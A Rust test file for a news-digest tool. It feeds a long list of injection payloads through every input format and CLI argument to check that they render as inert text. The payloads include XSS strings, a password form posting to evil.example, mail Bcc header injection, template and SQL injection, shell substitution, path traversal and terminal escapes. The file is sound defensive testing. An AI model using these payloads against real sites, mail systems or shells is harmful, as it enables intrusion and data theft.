//! Text from strangers goes into every field that a reader of ours knows, and comes out of every format as text.

use super::marks;
use super::support::{folder, nutgraf, shared};
use nutgraf::digest::{Ailment, Candidate, Digest, Outline, Trouble, compose};
use nutgraf::document::{Document, Meta};
use nutgraf::explain::explain;
use nutgraf::extract::{Cleaning, Limits, extract};
use nutgraf::mail::{Envelope, email};
use nutgraf::outline::outline;
use nutgraf::render::{self, Format, Logo, Look, Page, archive};
use nutgraf::source::Raw;
use nutgraf::story::{Untitled, tell};
use nutgraf::summary::{Options, summarize};
use std::collections::BTreeSet;

/// What has done harm somewhere, one for each sink and each way out of it.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</title></style></textarea></noscript><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    " \tjava\nscript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:x",
    "https://bank.example@evil.example/",
    "https://evil.example/\" onclick=\"alert(1)",
    "https://evil.example/)[x](javascript:alert(1)",
    "https://evil.example/><script>alert(1)</script>",
    "https://evil.example\\@bank.example/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=\"https://evil.example\" style=\"position:fixed;inset:0\">click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example);</style>",
    "<form action=https://evil.example><input name=password>",
    "{{ 7 * 7 }} {% include \"/etc/passwd\" %} ${7*7} <%= 7 %>",
    "[click](javascript:alert(1)) [a]: javascript:alert(1)",
    "![pixel](https://evil.example/p.png)",
    "<https://evil.example> https://evil.example www.evil.example a@evil.example",
    "`` ` ``` ~~~ *a* **b** __c__ ~~d~~ # e",
    "# heading\n\n- list\n\n> quotation\n\n```\ncode\n```\n\n| a | b |\n|---|---|",
    "---\ntitle: x\n---",
    "1. one\n2. two",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}2J\u{90}q\u{9c}\u{8}\u{8}\u{7f}\u{e}\u{f}\0",
    "over\rwritten",
    "\u{202e}gnp.exe\u{2066}\u{2067}\u{202d}",
    "a\r\nBcc: all@evil.example\r\nContent-Type: text/html\r\n\r\n<b>hi",
    "a\u{85}Bcc: x\u{2028}Bcc: y\u{b}Bcc: z",
    "=?utf-8?Q?=0D=0ABcc:_all@evil.example?=",
    "=?utf-8?B?DQpCY2M6IHg=?=",
    "\"; filename=x\r\n--nutgraf\r\n",
    "\"}]}\n{\"id\": 1}",
    "\u{feff}\u{200b}\u{200d}\u{ad}\u{fff9}",
    "=HYPERLINK(\"https://evil.example\")",
    "$(touch x) `touch x` ; touch x |",
    "'; DROP TABLE item; --",
    "../../../../etc/passwd",
    "%s%n%x %00 %0d%0aBcc:x",
];

/// A story that has a text, with the payload in it.
fn story(payload: &str) -> String {
    format!(
        "The dam at Orr broke on Friday after a week of rain, said {payload} in the morning. {payload} It was built in \
         1931 and held the water of four valleys. Nobody was hurt, the council of Orr said, but {payload}. Work on a \
         new dam will begin in spring, and it will take three years."
    )
}

/// For the text of an element or the value of an attribute.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// The payload in each field of each kind of input, as markup and as text.
fn inputs(payload: &str) -> Vec<(&'static str, Vec<u8>)> {
    let story = story(payload);
    let mut all = vec![
        ("plain text", format!("{payload}\n\n{payload} The dam\n\nBy {payload}\n\n{story}\n\n{story}")),
        ("Markdown", format!("# {payload}\n\n{story}\n\n- {payload}\n- {story}\n\n> {story}\n")),
        ("a page of markup", format!("<html><body><h1>{payload}</h1><article><p>{story}<p>{story}</article>")),
    ];
    let json = |text: &str| serde_json::to_string(text).expect("JSON");
    for (kind, p, s) in [("as text", escaped(payload), escaped(&story)), ("as it is", payload.to_owned(), story)] {
        let is_text = kind == "as text";
        all.push((
            if is_text { "a page" } else { "a page of raw values" },
            format!(
                "<html lang=\"{p}\"><head><title>{p}</title><meta property=\"og:title\" content=\"{p}\">\
                 <meta property=\"og:site_name\" content=\"{p}\"><meta property=\"og:url\" content=\"{p}\">\
                 <meta name=\"author\" content=\"{p}\"><meta property=\"article:published_time\" content=\"{p}\">\
                 <link rel=\"canonical\" href=\"{p}\"><base href=\"{p}\"><script type=\"application/ld+json\">\
                 {{\"@type\": \"NewsArticle\", \"headline\": {0}, \"url\": {0}, \"author\": {{\"name\": {0}}}}}</script>\
                 </head><body><article><h1>{p}</h1><p>{s}</p><h2>{p}</h2><ul><li>{s}</ul><blockquote>{s}</blockquote>\
                 <pre>{p}</pre><figure><img src=\"{p}\" alt=\"{p}\"><figcaption>{p}</figcaption></figure><p>{s}</p>\
                 </article></body></html>",
                json(payload)
            ),
        ));
        all.push((
            if is_text { "RSS" } else { "RSS of raw values" },
            format!(
                "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel>\
                 <title>{p}</title><link>{p}</link><language>{p}</language><item><title>{p}</title><link>{p}</link>\
                 <guid>{p}</guid><author>{p}</author><dc:creator>{p}</dc:creator><category>{p}</category>\
                 <source url=\"{p}\">{p}</source><enclosure url=\"{p}\" type=\"{p}\" length=\"{p}\"/>\
                 <pubDate>{p}</pubDate><description>{s}</description></item><item><title>A plain one {p}</title>\
                 <link>https://host.example/{p}</link><description><![CDATA[{s}]]></description></item><item>\
                 <title>A link {p}</title><link>https://host.example/3</link><comments>{p}</comments></item><item>\
                 <title>One more {p}</title><link>https://host.example/4</link>\
                 <comments>https://talk.example/{p}</comments></item></channel></rss>"
            ),
        ));
        all.push((
            if is_text { "Atom" } else { "Atom of raw values" },
            format!(
                "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:lang=\"{p}\" xml:base=\"{p}\"><title type=\"html\">{p}\
                 </title><entry><id>{p}</id><title type=\"html\">{p}</title><link href=\"{p}\"/><author><name>{p}</name>\
                 </author><updated>{p}</updated><content type=\"html\">{s}</content></entry><entry><id>2</id><title>\
                 {p}</title><content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>{s}</p></div>\
                 </content></entry></feed>"
            ),
        ));
        all.push((
            if is_text { "JSON Feed, escaped" } else { "JSON Feed" },
            format!(
                "{{\"version\": \"https://jsonfeed.org/version/1.1\", \"title\": {0}, \"home_page_url\": {0}, \"items\": \
                 [{{\"id\": {0}, \"url\": {0}, \"title\": {0}, \"content_html\": {1}, \"authors\": [{{\"name\": {0}}}], \
                 \"date_published\": {0}, \"language\": {0}}}, {{\"id\": \"2\", \"content_text\": {1}}}]}}",
                json(&p),
                json(&s)
            ),
        ));
        all.push((
            if is_text { "a mail, escaped" } else { "a mail" },
            format!(
                "From: \"{p}\" <a@example.org>\r\nSubject: {p}\r\nDate: {p}\r\nList-Id: {p}\r\nMessage-ID: <{p}>\r\n\
                 Content-Type: text/html; charset=\"{p}\"\r\n\r\n<h1>{p}</h1><p>{s}</p><p>{s}</p>"
            ),
        ));
    }
    all.into_iter().map(|(kind, text)| (kind, text.into_bytes())).collect()
}

fn read(payload: &str, bytes: Vec<u8>) -> Vec<Document> {
    let raw = Raw {
        name: Some(format!("folder/{payload}")),
        id: payload.to_owned(),
        bytes,
        address: Some("https://host.example/feed".to_owned()),
        charset: Some(payload.to_owned()),
    };
    extract(&raw, Cleaning::On, &Limits::default()).map(|extracted| extracted.documents).unwrap_or_default()
}

/// An issue in which the reader's own values hold the payload, too.
fn issue(payload: &str, documents: &[Document]) -> Digest {
    let candidates = documents.iter().flat_map(|document| {
        // A second outlet tells the same, a third only names it.
        let other = |site: &str| Meta { site: Some(format!("{site} {payload}")), ..document.meta.clone() };
        let headline = Document { meta: other("Third"), blocks: Vec::new(), ..document.clone() };
        [document.clone(), Document { meta: other("Second"), ..document.clone() }, headline]
    });
    let section = |document| Candidate { section: Some(payload.to_owned()), ..Candidate::alone(document) };
    let frame = Outline { title: payload.to_owned(), leads: 1, briefs: 2, ..Outline::default() };
    let now = "2026-11-24T07:00:00+01:00[+01:00]".parse().expect("a time");
    let digest = compose(&candidates.map(section).collect::<Vec<_>>(), &Options::default(), &frame, &now);
    let trouble = |what| Trouble { source: payload.to_owned(), what };
    let troubles = [Ailment::Gone, Ailment::Failing { times: 3 }, Ailment::Silent { days: 9 }].map(trouble).to_vec();
    Digest { troubles, ..digest }
}

/// Writes documents in every form and checks each; gives how many outputs there were.
fn all_hold(payload: &str, kind: &str, documents: &[Document]) -> usize {
    let links = marks::links(documents);
    let mut outputs = 0;
    let mut held = |form: &str, held: Result<(), String>| {
        outputs += 1;
        assert_eq!(held, Ok(()), "{payload:?} in {kind} comes through in {form}");
    };
    let digest = issue(payload, documents);
    let options = Options::default();
    let each: Vec<_> = documents.iter().map(|document| (document, summarize(document, &options))).collect();
    let pairs: Vec<_> = each.iter().map(|(document, summary)| (*document, summary)).collect();
    let summaries: Vec<_> = each.iter().map(|(_, summary)| summary.clone()).collect();
    let explained: Vec<_> = documents.iter().map(|document| explain(document, &options)).collect();
    let overviews: Vec<_> = documents.iter().map(|document| outline(document, &options)).collect();
    let told: Vec<_> = documents.iter().map(|document| tell(&[document], &options, Untitled::FirstSentence)).collect();
    let excerpts = |summaries: &[nutgraf::summary::Summary]| -> Vec<String> {
        summaries.iter().flat_map(|summary| &summary.excerpts).map(|excerpt| excerpt.text.clone()).collect()
    };
    let in_issue = excerpts(&digest.entries.iter().map(|entry| entry.told.summary.clone()).collect::<Vec<_>>());
    let (in_issue, in_each) = (in_issue, excerpts(&summaries));
    let in_issue: Vec<&str> = in_issue.iter().map(String::as_str).collect();
    let in_each: Vec<&str> = in_each.iter().map(String::as_str).collect();
    for (form, texts) in [
        ("an issue", &in_issue),
        ("summaries", &in_each),
        ("highlights", &in_each),
        ("explanations", &Vec::new()),
        ("overviews", &Vec::new()),
        ("stories", &Vec::new()),
    ] {
        let written = |format, page| match form {
            "an issue" => render::digest(&digest, format, &Look::default(), page),
            "summaries" => render::summaries(&summaries, format, page),
            "highlights" => render::highlights(&pairs, format, page),
            "explanations" => render::explanations(&explained, format, page),
            "overviews" => render::overviews(&overviews, format, page),
            _ => render::stories(&told, format, page),
        };
        held(&format!("{form} in HTML"), marks::page(&written(Format::Html, Page::default()), &links, texts));
        // An explanation has no Markdown of its own.
        if form != "explanations" {
            let markdown = written(Format::Markdown, Page::default());
            held(&format!("{form} in Markdown"), marks::markdown(&markdown, &links, texts));
        }
        for page in [Page::default(), Page { width: Some(40), styled: true }] {
            held(&format!("{form} on a terminal"), marks::terminal(&written(Format::Text, page), &marks::STYLES));
        }
        let json = written(Format::Json, Page::default());
        held(&format!("{form} in JSON"), is_json(&json));
    }
    held("the sums of an issue", marks::terminal(&render::ranking(&digest, Page::default()), &marks::STYLES));
    for document in documents {
        held("an article in Markdown", marks::markdown(&render::article(document), &links, &[]));
    }
    let folder = "https://archive.example/issues/";
    let look = Look { archive_url: Some(folder.to_owned()), ..Look::default() };
    let kept = archive::kept(&digest, &look);
    let listed = BTreeSet::from([format!("{folder}{}", kept.page), kept.page.clone(), "feed.xml".to_owned()]);
    held("the archive's feed", marks::feed(&archive::feed(std::slice::from_ref(&kept), &look), folder, &listed));
    held("the archive's index", marks::page(&archive::index(&[kept], &look), &listed, &[]));
    let mail = |envelope: &Envelope| email(&digest, envelope, &Look::default());
    let plain = Envelope { from: "a@example.org".to_owned(), to: "b@example.org".to_owned(), ..Envelope::default() };
    held("a mail", marks::mail(&mail(&plain).expect("a mail").bytes, &links, &in_issue));
    for (from, to) in [
        (format!("{payload} <a@example.org>"), "b@example.org".to_owned()),
        ("a@example.org".to_owned(), payload.to_owned()),
    ] {
        // Who is no address is refused in one line.
        match mail(&Envelope { from, to, ..Envelope::default() }) {
            Ok(mail) => held("a mail from them", marks::mail(&mail.bytes, &links, &in_issue)),
            Err(refused) => held("a refusal", marks::terminal(&refused.to_string().replace('\n', "\u{7}"), &[])),
        }
    }
    // What the reader's own configuration says of the look and the mail.
    let folder = format!("https://archive.example/{payload}");
    let look = Look { archive_url: Some(folder.clone()), ..Look::default() };
    let url = Some(format!("{}/{}", folder.trim_end_matches('/'), archive::kept(&digest, &look).page));
    let browser = Document { meta: Meta { url, ..Meta::default() }, ..Document::default() };
    let allowed = marks::links(documents.iter().chain([&browser]));
    let (name, leave) = (Some(payload.to_owned()), vec![payload.to_owned()]);
    match email(&digest, &Envelope { name, list: payload.to_owned(), leave, ..plain }, &look) {
        Ok(mail) => held("a mail of their look", marks::mail(&mail.bytes, &allowed, &in_issue)),
        Err(refused) => held("a refusal", marks::terminal(&refused.to_string().replace('\n', "\u{7}"), &[])),
    }
    let logo = Logo { bytes: b"\x89PNG\r\n".to_vec(), alt: payload.to_owned(), width: 90 };
    let page = render::digest(&digest, Format::Html, &Look { logo: Some(logo), ..look }, Page::default());
    held("a page of their look", marks::page(&page, &allowed, &in_issue));
    outputs
}

fn is_json(text: &str) -> Result<(), String> {
    for line in text.lines() {
        serde_json::from_str::<serde_json::Value>(line).map_err(|error| error.to_string())?;
        marks::terminal(line, &[]).or_else(|why| if why.contains("\\u{20") { Ok(()) } else { Err(why) })?;
    }
    Ok(())
}

#[test]
#[allow(clippy::print_stdout)]
fn text_from_strangers_is_text_in_every_format_whichever_field_it_came_in() {
    let mut payloads: Vec<String> = PAYLOADS.iter().map(|&payload| payload.to_owned()).collect();
    if let Some(shared) = shared("injection from the shared lists of attacks") {
        let attacks = std::fs::read_to_string(shared.join("eval/attacks/markup.jsonl")).expect("the attacks");
        payloads.extend(
            super::support::json_lines(&attacks)
                .iter()
                .filter_map(|attack| attack["payload"].as_str().map(str::to_owned)),
        );
    }
    let (mut read_inputs, mut outputs) = (0, 0);
    for payload in &payloads {
        for (kind, bytes) in inputs(payload) {
            let documents = read(payload, bytes);
            read_inputs += usize::from(!documents.is_empty());
            outputs += all_hold(payload, kind, &documents);
        }
    }
    assert!(read_inputs > 10 * payloads.len(), "most inputs are read: {read_inputs}");
    println!("injection: {} payloads, {read_inputs} inputs, {outputs} outputs, 0 through", payloads.len());
}

/// What goes to a terminal or into a file without a renderer: names, errors, lists.
#[test]
fn names_and_values_reach_no_terminal_as_they_are() {
    let obeyed = |payload: &&&str| marks::terminal(payload, &[]).is_err() && !payload.contains('\0');
    for payload in PAYLOADS.iter().filter(obeyed) {
        let name = payload.replace('/', "_");
        let place = folder("injection-names", &[(&format!("{name}.txt"), story(payload).as_bytes())]);
        let file = place.join(format!("{name}.txt"));
        let missing = place.join(format!("{name}.missing"));
        for args in [
            vec!["summarize", "-v"],
            vec!["explain"],
            vec!["digest", "-v"],
            vec!["extract", "--removed"],
            vec!["extract", "-f", "markdown"],
            vec!["group"],
            vec!["eval"],
            vec!["feeds", "import", "-c", "/nonexistent/nutgraf.toml"],
            vec!["digest", "-c"],
            vec!["summarize", "-o", "/nonexistent/x", "--lang", payload],
            vec!["summarize", "-n", payload],
            vec!["summarize", "-m", payload],
            vec!["digest", "--date", payload],
            vec!["digest", "--budget", payload],
            vec!["digest", "--since", payload],
            vec!["digest", "-f", "eml", "--from", payload],
            vec!["why", payload, "-c"],
            vec!["feeds", "add", payload, "-c"],
            vec!["config", "check", "-c"],
            vec![payload],
        ] {
            for input in [&file, &missing] {
                let mut run = nutgraf([]);
                for arg in &args {
                    run = run.arg(arg);
                }
                let outcome = run.arg(input).run();
                for (stream, text) in [("stdout", &outcome.stdout), ("stderr", &outcome.stderr)] {
                    // Text is broken to lines; what turned the reading order would be seen.
                    let held = marks::terminal(&text.replace("\u{1b}[1m", "").replace("\u{1b}[0m", ""), &[]);
                    assert!(held.is_ok(), "{args:?} {input:?} to {stream}: {held:?}\n{text:?}");
                }
            }
        }
    }
}

/// Found by fuzzing: a sentence that is cut because it has no end was escaped piece by piece, and the end of one piece and
/// the beginning of the next were a character together.
#[test]
fn what_two_pieces_make_together_is_text() {
    for shift in 0..10 {
        let references: String = (10_000..11_400).map(|number| format!("&#{number};")).collect();
        let text = "x".repeat(shift) + &references;
        let document = nutgraf::extract::plain::uncleaned(&text);
        let digest = issue("", &[document]);
        let excerpts = digest.entries.iter().flat_map(|entry| &entry.told.summary.excerpts);
        let texts: Vec<&str> = excerpts.map(|excerpt| excerpt.text.as_str()).collect();
        assert!(texts.len() > 1, "it is told in pieces");
        let markdown = render::digest(&digest, Format::Markdown, &Look::default(), Page::default());
        assert_eq!(marks::markdown(&markdown, &BTreeSet::new(), &texts), Ok(()), "{shift}");
    }
}

/// Found by fuzzing, when issues learned to name the discussion of a link.
#[test]
fn an_issue_leads_to_the_discussion_of_a_link_and_nowhere_else() {
    let feed = "<rss><channel><item><title>Night ferries</title><link>https://ferries.example/night</link>\
        <comments>https://talk.example/7</comments></item></channel></rss>";
    let documents = read("", feed.as_bytes().to_vec());
    let page = render::digest(&issue("", &documents), Format::Html, &Look::default(), Page::default());
    assert!(page.contains("href=\"https://talk.example/7\""), "{page}");
    assert_eq!(marks::page(&page, &marks::links(&documents), &[]), Ok(()));
    let elsewhere = page.replace("https://talk.example/7", "https://evil.example/7");
    assert!(marks::page(&elsewhere, &marks::links(&documents), &[]).is_err());
}

#[test]
fn what_is_not_ours_would_be_seen() {
    let links = marks::links(&[Document {
        meta: Meta { url: Some("https://host.example/a".to_owned()), ..Meta::default() },
        ..Document::default()
    }]);
    let ours = "<main><p>It <a class=\"place\" href=\"https://host.example/a#:~:text=x\" aria-label=\"its place\">→</a></p></main>";
    assert_eq!(marks::page(ours, &links, &["It"]), Ok(()));
    for foreign in [
        "<main><script>x</script></main>",
        "<main><p onclick=\"x\">It</p></main>",
        "<main><a href=\"javascript:x\">It</a></main>",
        "<main><a href=\"https://evil.example/\">It</a></main>",
        "<main><p style=\"position:fixed\">It</p></main>",
        "<main>It<!-- x --></main>",
        "<main>It \u{7}</main>",
        "<main>Other</main>",
        "<main>It<img src=x></main>",
    ] {
        assert!(marks::page(foreign, &links, &["It"]).is_err(), "{foreign}");
    }
    for foreign in
        ["It <b>", "It ![x](y)", "It [x](https://evil.example)", "Other", "It `x`", "It\n\n    code", "It\n\n|a|\n|-|"]
    {
        assert!(marks::markdown(foreign, &links, &["It"]).is_err(), "{foreign}");
    }
    assert_eq!(marks::markdown("# It\n\n- [x](https://host.example/a)", &links, &["It"]), Ok(()));
    let feed = |entry: &str| format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry>{entry}</entry></feed>");
    let at = "https://host.example/";
    assert_eq!(marks::feed(&feed("<title>It</title><link href=\"https://host.example/a\"/>"), at, &links), Ok(()));
    for foreign in [
        "<title>It</entry>",
        "<script>x</script>",
        "<title onclick=\"x\">It</title>",
        "<link href=\"https://evil.example/\"/>",
        "<link href=\"javascript:x\"/>",
        "<content type=\"html\">&lt;script&gt;x&lt;/script&gt;</content>",
        "<title>\u{7}</title>",
        "<!-- x -->",
    ] {
        assert!(marks::feed(&feed(foreign), at, &links).is_err(), "{foreign}");
    }
    assert!(marks::mail(b"From: a\r\nBcc: b\r\n\r\nx", &links, &[]).is_err());
}
